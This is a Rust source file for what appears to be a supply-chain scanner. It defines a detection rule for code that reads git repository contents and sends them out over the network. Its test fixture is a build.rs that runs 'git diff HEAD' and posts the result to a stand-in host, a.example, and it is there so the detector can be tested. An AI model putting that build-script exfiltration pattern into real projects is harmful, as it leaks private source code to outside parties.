//! `source-out`: Sources with a way out.

use crate::report::Severity;
use crate::rules::{Explanation, Hit, Look, Rule, WAY, hit};
use crate::sign::Sign;

pub(super) const RULE: Rule = Rule {
    explanation: Explanation {
        code: "source-out",
        techniques: &["A9"],
        means: "What git knows of the sources can be sent away.",
        look: "What is asked of git, and where it goes.",
    },
    needs: &[Sign::GitContents],
    judge,
};

fn judge(look: &Look<'_>) -> Option<Hit> {
    let asks = look.has(Sign::GitContents) && look.starts();
    if !asks || !look.reaches_out() || !look.any(&[Sign::Send, Sign::Url, Sign::HiddenUrl, Sign::Downloader])
    {
        return None;
    }
    let severity = match () {
        () if look.is_build() => Severity::High,
        () if look.is_close() || look.scope.is_whole => Severity::Medium,
        () => Severity::Low,
    };
    hit(
        severity,
        &[Sign::GitContents],
        WAY,
        format!("{} asks git for what was written, and can send it away", look.where_it_runs()),
    )
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::Severity;
    use crate::rules::fixture::{fires, is_quiet};

    #[test]
    fn it_fires() {
        fires(
            &RULE,
            "build.rs",
            r##"use std::process::Command as C;
fn main() {
    let d = C::new("git").args(["diff", "HEAD"]).output().unwrap().stdout;
    let _ = ureq::post("https://a.example/d").send_bytes(&d);
}"##,
            Severity::High,
        );
    }

    #[test]
    fn look_alikes_are_left_alone() {
        is_quiet(
            &RULE,
            "build.rs",
            r##"fn main() { let d = std::process::Command::new("git").args(["log", "-1"]).output().unwrap(); println!("cargo:rustc-env=V={}", d.stdout.len()); }"##,
        );
    }
}
